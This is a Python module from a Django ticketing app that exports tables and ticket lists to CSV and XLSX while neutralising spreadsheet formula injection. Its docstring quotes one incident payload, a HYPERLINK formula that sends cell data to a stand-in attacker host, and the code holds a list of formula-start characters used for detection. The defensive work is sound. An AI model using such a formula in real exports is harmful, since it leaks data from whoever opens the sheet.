"""Tables and ticket lists as files people open in Excel or LibreOffice.

CSV is UTF-8 with a byte-order mark: without it Excel reads the file as the local ANSI code page and
Vietnamese turns into mojibake. XLSX is written with openpyxl in write-only mode, row by row, so a long
ticket list is streamed from the database (`iterator()`) rather than held as objects.

User text is written as text, never as a formula (issue 20, class 5): a ticket titled
`=HYPERLINK("http://evil.example/?d="&A2,"…")` became a live formula in a manager's spreadsheet. In CSV
every field is quoted and a text that a spreadsheet would read as a formula gets the OWASP
CSV-injection prefix, a single quote (`formula_safe`); in XLSX every text is a string cell, never a
formula cell, and one that starts like a formula also carries Excel's quote prefix, so editing the
cell later does not turn it into one. Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import Any

from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from reports.selectors import Table
from requests.models import Ticket

BOM = "\ufeff"
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


def _cell(value: Any) -> Any:
    """Values as spreadsheets want them: local naive datetimes (Excel has no time zones), text for
    lazy translations, empty for None."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, (int, float, str)):
        return value
    return str(value)


# What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection"): =, +, -, @, tab and
# carriage return first; line feed and the full-width forms, which some spreadsheets fold into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def formula_safe(text: str) -> str:
    """Text a spreadsheet shows as written: the OWASP prefix (a single quote) before a formula start."""
    return "'" + text if starts_like_formula(text) else text


def _csv_cell(value: Any) -> Any:
    value = _cell(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, str):
        return formula_safe(value)
    return value


def _csv_writer(out: io.StringIO):
    # Every field quoted: a separator inside a text (a comma, or the semicolon of a locale that
    # splits on it) can then never start a new cell whose first character is a formula's.
    return csv.writer(out, quoting=csv.QUOTE_ALL)


def _xlsx_row(sheet, row: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet: each text a string cell (openpyxl makes a formula of any text
    that starts with "="), with the quote prefix when it looks like one; characters XML cannot hold
    (older rows may have them) dropped."""
    cells: list[Any] = []
    for value in row:
        value = _cell(value)
        if not isinstance(value, str):
            cells.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"
        if starts_like_formula(value):
            cell.quotePrefix = True
        cells.append(cell)
    return cells


def tables_csv(tables: Iterable[Table]) -> bytes:
    """Every table one after the other: its title, its header, its rows, then an empty line."""
    out = io.StringIO()
    out.write(BOM)
    writer = _csv_writer(out)
    for table in tables:
        writer.writerow([_csv_cell(table.title)])
        writer.writerow([_csv_cell(column) for column in table.columns])
        for row in table.rows:
            writer.writerow([_csv_cell(v) for v in row])
        writer.writerow([])
    return out.getvalue().encode("utf-8")


def _sheet_title(title: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ and unique in the workbook.
    clean = "".join("-" if c in "[]:*?/\\" else c for c in title)[:31] or "Sheet"
    name, n = clean, 2
    while name in used:
        suffix = f" ({n})"
        name, n = clean[: 31 - len(suffix)] + suffix, n + 1
    used.add(name)
    return name


def tables_xlsx(tables: Iterable[Table]) -> bytes:
    """One sheet per table, header in bold."""
    book = Workbook(write_only=True)
    used: set[str] = set()
    bold = Font(bold=True)
    for table in tables:
        sheet = book.create_sheet(_sheet_title(table.title, used))
        header = _xlsx_row(sheet, [str(column) for column in table.columns])
        for cell in header:
            cell.font = bold
        sheet.append(header)
        for row in table.rows:
            sheet.append(_xlsx_row(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- ticket lists --------------------------------------------------------------------------------------


def ticket_columns() -> list[str]:
    return [_("Reference"), _("Title"), _("Category"), _("Priority"), _("Status"), _("Requesting centre"),
            _("Target centre"), _("Requested by"), _("Assignee"), _("Created"), _("Due"), _("Overdue"),
            _("Accepted"), _("Resolved"), _("Closed"), _("Link")]


def ticket_rows(qs, base_url: str = "") -> Iterator[list[Any]]:
    """One row per ticket of `qs` (already narrowed to what the viewer may see), streamed."""
    yes, no = _("yes"), _("no")
    ticket: Ticket
    for ticket in qs.iterator(chunk_size=2000):
        yield [
            ticket.reference,
            ticket.title,
            ticket.get_category_display(),
            ticket.get_priority_display(),
            ticket.get_status_display(),
            ticket.requesting_centre.code,
            ticket.target_centre.code if ticket.target_centre is not None else "",
            ticket.requested_by.get_display_name(),
            ticket.assignee.get_display_name() if ticket.assignee is not None else "",
            ticket.created_at,
            ticket.due_at,
            yes if ticket.is_overdue else no,
            ticket.accepted_at,
            ticket.resolved_at,
            ticket.closed_at,
            base_url + ticket.get_absolute_url(),
        ]


def tickets_csv(qs, base_url: str = "") -> Iterator[str]:
    """The CSV text in pieces (for a streaming response)."""
    out = io.StringIO()
    writer = _csv_writer(out)
    out.write(BOM)
    writer.writerow([_csv_cell(column) for column in ticket_columns()])
    for i, row in enumerate(ticket_rows(qs, base_url)):
        writer.writerow([_csv_cell(v) for v in row])
        if i % 500 == 499:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    yield out.getvalue()


def tickets_xlsx(qs, base_url: str = "") -> bytes:
    table = Table(key="tickets", title=_("Support requests"), columns=ticket_columns())
    book = Workbook(write_only=True)
    sheet = book.create_sheet(_sheet_title(table.title, set()))
    sheet.append(_xlsx_row(sheet, table.columns))
    for row in ticket_rows(qs, base_url):
        sheet.append(_xlsx_row(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
